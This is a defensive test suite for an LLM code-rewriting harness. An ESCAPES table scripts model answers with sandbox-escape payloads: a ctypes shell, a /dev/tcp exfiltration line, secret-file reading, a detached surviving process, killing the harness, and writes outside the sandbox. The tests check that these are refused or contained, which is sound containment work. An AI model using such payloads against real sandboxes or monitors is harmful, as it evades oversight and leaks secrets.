"""The escapes found on the online shop case, each as the code a scripted LLM answers with (through the
real `openai` client against tests/llm_server.py). Each is refused by the checks before it runs; and
with the checks switched off (as if a new trick got past them), the same code runs in the operating-
system sandbox and the marker file, the connection, the surviving process, the kill, the outside write
and the leaked secret never happen. Plus: values of columns the original never outputs never reach the
LLM or the report, and a verified module loads only as the bytes that were verified."""

from __future__ import annotations

import json
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from lester_dagster.errors import CodeRejected
from lester_dagster.rewrite import loop
from lester_dagster.rewrite.deploy import UnverifiedModule, load_verified
from lester_dagster.rewrite.llm import LLMConfig, OpenAIChat
from lester_dagster.rewrite.loop import RewriteOptions, Session, run_rounds, start
from lester_dagster.rewrite.safety import Required, check_code
from lester_dagster.rewrite.sandbox import _UID_BASE, Limits
from tests.llm_server import ScriptedLLM, answer

FIXTURES = Path(__file__).parent / "fixtures" / "rewrite"
ORDERS = FIXTURES / "orders"
PREPARE = (ORDERS / "prepare.py").read_text()
LIMITS = Limits(timeout=60, memory_mb=2048)
HEADER = "import functools\nimport numpy as np\nimport pandas as pd\n"  # allowed imports only


def chat(server: ScriptedLLM) -> OpenAIChat:
    return OpenAIChat(LLMConfig(server.base_url, None, "scripted", backoff=0.01, retries=1))


def with_payload(payload: str) -> str:
    """The correct data preparation with `payload` run first inside prepare(); the payload may set
    `leak`, which is appended to the region column (so it would show in the differences)."""
    body = "\n".join("    " + line for line in payload.strip().splitlines())
    code = PREPARE.replace(
        "def prepare(orders: le.Table, products: le.Table) -> le.Table:\n",
        "def prepare(orders: le.Table, products: le.Table) -> le.Table:\n    leak = ''\n" + body + "\n")
    code = code.replace('lambda region: region.str.strip().str.lower())',
                        'lambda region: region.str.strip().str.lower() + leak)')
    return HEADER + code


class World:
    """What the payloads aim at, outside the sandbox: files to write, read or delete, a server to reach,
    a process to kill."""

    def __init__(self, root: Path, port: int, decoy: subprocess.Popen[bytes], connections: list[object]) -> None:
        self.root, self.port, self.process, self.connections = root, port, decoy, connections
        self.decoy = decoy.pid
        self.marker = root / "MARKER"
        self.secret = root / "secret.txt"
        self.victim = root / "victim.txt"

    def fill(self, template: str) -> str:
        """Paths go in as expressions that build them (`'/'.join([...])`): a path literal alone was refused
        by the old check too, and the escapes were written to pass it."""
        def built(path: Path) -> str:
            return f"'/'.join({str(path).split('/')!r})"

        return template.format(marker=built(self.marker), marker_text=self.marker, secret=built(self.secret),
                               root=built(self.root), port=self.port, decoy=self.decoy)


# name -> (payload, what the check says about it now). Each passed the check as it was before issue 13:
# it looked at getattr only for dunder names, and at forbidden module names only in imports.
ESCAPES = {
    "shell through ctypes": (
        "getattr(np.ctypeslib.ctypes.CDLL(None), 'system')(b'touch {marker_text}')", "attribute 'ctypeslib'"),
    "getattr passed as a value": (
        "getattr(functools.reduce(getattr, ['io', 'common', 'os'], pd), 'system')('touch ' + {marker})",
        "getattr may only be called directly"),
    "attribute chain to os": (
        "getattr(pd.io.common.os, 'system')('touch ' + {marker})", "attribute 'io'"),
    "detached process": (
        "libc = np.ctypeslib.ctypes.CDLL(None)\n"
        "if getattr(libc, 'fork')() == 0:\n    libc.setsid()\n    libc.sleep(30)\n"
        "    getattr(pd.io.common.os, 'open')('/'.join(['', 'job', 'out', 'survivor']), 65, 420)\n"
        "    libc._exit(0)",
        "attribute 'ctypeslib'"),
    "network through /dev/tcp": (
        "getattr(np.ctypeslib.ctypes.CDLL(None), 'system')(b\"bash -c 'echo leak > /dev/tcp/127.0.0.1/{port}'\")",
        "attribute 'ctypeslib'"),
    "secret file into a column": (
        "os = pd.io.common.os\n"
        "try:\n    fd = getattr(os, 'open')({secret}, 0)\n    leak = os.read(fd, 100).decode()\n"
        "except Exception as error:\n    leak = repr(error)",
        "attribute 'io'"),
    "killing the harness": (
        "libc = np.ctypeslib.ctypes.CDLL(None)\n"
        "for pid in (pd.io.common.os.getppid(), {decoy}):\n    getattr(libc, 'kill')(pid, 9)",
        "attribute 'ctypeslib'"),
    "writing and deleting outside through dir_fd": (
        "os = pd.io.common.os\n"
        "for attempt in (lambda: os.open('MARKER', os.O_CREAT | os.O_WRONLY, dir_fd=os.open({root}, os.O_RDONLY)),\n"
        "                lambda: os.unlink('victim.txt', dir_fd=os.open({root}, os.O_RDONLY))):\n"
        "    try:\n        attempt()\n    except Exception:\n        pass",
        "the keyword dir_fd"),
    "writing outside through pyarrow": (
        "try:\n    getattr(pd.DataFrame({{'a': [1]}}), 'to_parquet')({marker})\nexcept Exception:\n    pass",
        ".to_parquet reads or writes files"),
}


@pytest.fixture(scope="module")
def orders(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Session]:
    options = RewriteOptions(data=ORDERS, limits=LIMITS, workdir=tmp_path_factory.mktemp("orders"),
                             out=tmp_path_factory.mktemp("unused") / "orders.py")
    yield start(ORDERS / "messy_orders.py", options)


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    connections: list[object] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connections.append(server.accept()[0])
            except OSError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    decoy = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"])
    root = tmp_path / "outside"
    root.mkdir()
    found = World(root, server.getsockname()[1], decoy, connections)
    found.secret.write_text("the-secret-token-4711")
    found.victim.write_text("keep me")
    yield found
    stop.set()
    thread.join()
    server.close()
    decoy.kill()
    decoy.wait()


def assert_nothing_happened(world: World, requests: list[dict], report_file: Path, workdir: Path) -> None:
    # every process of a sandboxed run has a user id of its own, from the sandbox's range: none is left (the
    # kernel ends them asynchronously; a survivor would stay)
    deadline = time.monotonic() + 120
    while leftovers := [p for p in Path("/proc").iterdir() if p.name.isdigit() and _uid(p) >= _UID_BASE]:
        assert time.monotonic() < deadline, leftovers
        time.sleep(0.1)
    assert not world.marker.exists() and not (world.root / "MARKER").exists()
    assert world.victim.read_text() == "keep me"
    # a connection of our own: once the server has accepted it, it has accepted any the run made before
    with socket.create_connection(("127.0.0.1", world.port)) as ours:
        while not world.connections:
            time.sleep(0.01)
        assert [c.getpeername() for c in world.connections] == [ours.getsockname()]
    # the decoy, standing in for the harness, lived until our own SIGTERM (a kill from the run: -9)
    world.process.terminate()
    assert world.process.wait() == -signal.SIGTERM
    assert not list(workdir.glob("round-*/out/survivor"))
    sent = json.dumps([r["messages"] for r in requests])
    assert "the-secret-token-4711" not in sent and "the-secret-token-4711" not in report_file.read_text()


def _uid(process: Path) -> int:
    try:
        return process.stat().st_uid
    except OSError:
        return -1


@pytest.mark.parametrize("name", list(ESCAPES))
def test_each_escape_is_refused_before_it_runs(orders: Session, world: World, tmp_path: Path, name: str) -> None:
    payload, says = ESCAPES[name]
    script = {"prepare": [answer(world.fill(with_payload(payload)))],
              "label": [answer((ORDERS / "label.py").read_text())],
              "encoder": [answer((ORDERS / "encoder.py").read_text())]}
    with ScriptedLLM(script) as server:
        report = run_rounds(orders, chat(server), out=tmp_path / "o.py", report=tmp_path / "r.json", max_rounds=1)
    first = report.rounds[0]
    assert first.verdict == "rejected" and first.run["verdict"] == "skipped"
    problems = " ".join(first.calls[0].problems)
    assert says in problems, problems
    assert_nothing_happened(world, server.requests, tmp_path / "r.json", orders.workdir)


@pytest.mark.parametrize("name", list(ESCAPES))
def test_each_escape_is_contained_by_the_sandbox_when_the_check_misses_it(
        orders: Session, world: World, tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(loop, "check_code", lambda *args, **kwargs: None)  # a trick the checks do not know yet
    payload, _ = ESCAPES[name]
    script = {"prepare": [answer(world.fill(with_payload(payload))), ""],
              "label": [answer((ORDERS / "label.py").read_text())],
              "encoder": [answer((ORDERS / "encoder.py").read_text())]}
    with ScriptedLLM(script) as server:
        report = run_rounds(orders, chat(server), out=tmp_path / "o.py", report=tmp_path / "r.json", max_rounds=2)
    first = report.rounds[0]
    assert first.run["verdict"] != "skipped"  # it did run, in the sandbox
    assert_nothing_happened(world, server.requests, tmp_path / "r.json", orders.workdir)
    if name != "writing outside through pyarrow":
        # what it tried (ctypes, a process, a file of its own) is recorded and fails the run even when the code
        # caught the error and went on: it would not fail once deployed, outside the sandbox
        assert first.verdict == "run-failed" and "sandbox" in first.run["message"], first.run


def test_the_secret_payload_runs_finds_nothing_to_read_and_is_not_verified(orders: Session, world: World, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(loop, "check_code", lambda *args, **kwargs: None)
    payload = world.fill(ESCAPES["secret file into a column"][0])
    script = {"prepare": [answer(with_payload(payload)), ""], "label": [answer((ORDERS / "label.py").read_text())],
              "encoder": [answer((ORDERS / "encoder.py").read_text())]}
    with ScriptedLLM(script) as server:
        report = run_rounds(orders, chat(server), out=tmp_path / "o.py", report=tmp_path / "r.json", max_rounds=2)
    assert report.rounds[0].verdict == "run-failed"  # it opened a file itself: never verified, whatever it read
    feedback = server.requests[-1]["messages"][-1]["content"]
    assert "the code tried open" in feedback and "which the sandbox stopped" in feedback
    assert "column 'region' differs" in feedback
    assert "PermissionError('sandbox: opening" in feedback  # what it got instead of the secret
    assert "the-secret-token-4711" not in feedback


def test_values_of_columns_the_original_never_outputs_never_reach_the_llm_or_the_report(tmp_path: Path) -> None:
    """Legitimate-looking code (it passes every check) that outputs customers' card numbers in place of
    the e-mail domain: the difference is reported, the numbers are not."""
    shop = FIXTURES / "shop"
    prepare = (shop / "prepare.py").read_text().replace(
        '.project("domain", "email", lambda email: email.str.rsplit("@", n=1).str[1])',
        '.project("domain", "card_number", lambda card: card.astype(str))')
    script = {"prepare": [answer(prepare), ""], "label": [answer((shop / "label.py").read_text())],
              "encoder": [answer((shop / "encoder.py").read_text())]}
    options = RewriteOptions(data=shop, limits=LIMITS, workdir=tmp_path / "work", out=tmp_path / "shop.py",
                             report=tmp_path / "r.json", max_rounds=2)
    with ScriptedLLM(script) as server:
        session = start(shop / "messy_shop.py", options)
        report = run_rounds(session, chat(server))
    assert report.rounds[0].verdict == "differs"
    import pandas as pd

    cards = {str(c) for c in pd.read_csv(shop / "customers.csv").card_number}
    feedback = server.requests[-1]["messages"][-1]["content"]
    assert "column 'domain' differs" in feedback and "<a value of customers.card_number>" in feedback
    for text in (json.dumps([r["messages"] for r in server.requests]), (tmp_path / "r.json").read_text()):
        assert not any(card in text for card in cards)


@pytest.mark.parametrize(
    ("code", "says"),
    [
        ("def prepare(orders, products):\n    if 'round-' in pd.io.common.os.getcwd():\n        pass\n"
         "    return orders\n", "attribute 'io'"),
        ("def prepare(orders, products):\n    return orders if np.random.rand() < 2 else products\n",
         "unseeded randomness"),
        ("def prepare(orders, products):\n    rng = np.random.default_rng()\n    return orders\n",
         "unseeded randomness"),
        ("def prepare(orders, products):\n    return orders.filter(lambda d: d < pd.Timestamp.now(), 'day')\n",
         ".now reads the environment"),
        ("def prepare(orders, products):\n    return orders.project('day', 'day', lambda d: pd.to_datetime('today'))\n",
         "reads the clock"),
        ("def prepare(orders, products):\n    return orders.project('h', 'name', lambda n: hash(n))\n",
         "hash is not allowed"),
        ("def prepare(orders, products):\n    return orders.filter('region.values.ctypes.data > 0')\n",
         "attribute 'ctypes'"),
        ("def prepare(orders, products):\n    return orders if products._mgr else orders\n",
         "private attribute _mgr"),
        ("def prepare(orders, products):\n    return orders.sample(frac=0.5)\n", "unseeded randomness"),
        ("import string\n\ndef prepare(orders, products):\n"
         "    string.Formatter().get_field('0.io.common.os', [pd], {})\n    return orders\n", ".Formatter reaches"),
    ],
)
def test_code_that_inspects_its_environment_or_walks_into_internals_is_refused(code: str, says: str) -> None:
    with pytest.raises(CodeRejected) as refused:
        check_code("import numpy as np\nimport pandas as pd\n\n" + code,
                   [Required("prepare", params=("orders", "products"))], sources=("orders", "products"))
    assert any(says in p for p in refused.value.problems), refused.value.problems


def test_seeded_randomness_and_plain_getattr_pass() -> None:
    code = ("import numpy as np\n\ndef prepare(orders, products):\n    rng = np.random.default_rng(0)\n"
            "    name = getattr(orders, 'name', None)\n    return orders.sample(frac=0.5, random_state=0)\n")
    check_code(code, [Required("prepare", params=("orders", "products"))], sources=("orders", "products"))


def test_a_refusal_is_kept_in_the_report(orders: Session, tmp_path: Path) -> None:
    refusal = "I'm sorry, but I can't help with rewriting this code."
    script = {"prepare": [refusal], "label": [answer((ORDERS / "label.py").read_text())],
              "encoder": [answer((ORDERS / "encoder.py").read_text())]}
    with ScriptedLLM(script) as server:
        report = run_rounds(orders, chat(server), out=tmp_path / "o.py", report=tmp_path / "r.json", max_rounds=1)
    call = report.rounds[0].calls[0]
    assert call.answer == refusal and "no Python code" in call.problems[0]
    assert json.loads((tmp_path / "r.json").read_text())["rounds"][0]["calls"][0]["answer"] == refusal
    assert f"prepare answered: {refusal}" in report.summary()


# ---- deploying the verified module ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def verified(orders: Session, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("deployed")
    script = {part: [answer((ORDERS / f"{name}.py").read_text())]
              for part, name in (("prepare", "prepare"), ("label", "label"), ("encoder", "encoder"))}
    with ScriptedLLM(script) as server:
        report = run_rounds(orders, chat(server), out=folder / "orders_pipeline.py",
                            report=folder / "orders_pipeline.report.json")
    assert report.verified and report.module_sha256
    return folder / "orders_pipeline.py", folder / "orders_pipeline.report.json"


def test_a_verified_module_loads_with_its_hash_checked(verified: tuple[Path, Path]) -> None:
    module_path, report_path = verified
    saved = json.loads(report_path.read_text())
    import hashlib

    assert saved["module_sha256"] == hashlib.sha256(module_path.read_bytes()).hexdigest()
    module = load_verified(module_path)
    assert module.PIPELINE.sources == {"orders": "order_id", "products": "product_id"}
    from lester_dagster.pipeline import PipelineSpec

    assert isinstance(module.PIPELINE, PipelineSpec)  # the real one, not the sandbox's stand-in


def test_an_edited_module_is_refused(verified: tuple[Path, Path], tmp_path: Path) -> None:
    module_path, report_path = verified
    edited = tmp_path / module_path.name
    edited.write_text(module_path.read_text().replace(
        "def line_total(", "import os\nif 'round-' not in os.getcwd():\n    pass\n\n\ndef line_total("))
    with pytest.raises(UnverifiedModule, match="was changed after it was verified.*Re-run `lester-dagster rewrite`"):
        load_verified(edited, report=report_path)
    with pytest.raises(UnverifiedModule, match="has no readable rewrite report"):
        load_verified(edited)  # no report beside it
    unverified = tmp_path / "unverified.report.json"
    unverified.write_text(json.dumps({**json.loads(report_path.read_text()), "verdict": "not-verified"}))
    with pytest.raises(UnverifiedModule, match="does not verify"):
        load_verified(module_path, report=unverified)


def test_the_deployed_module_imports_nothing_the_check_refuses(verified: tuple[Path, Path]) -> None:
    module_path, _ = verified
    text = module_path.read_text()
    assert "from lester_dagster.pipeline import PipelineSpec" in text and "import os" not in text
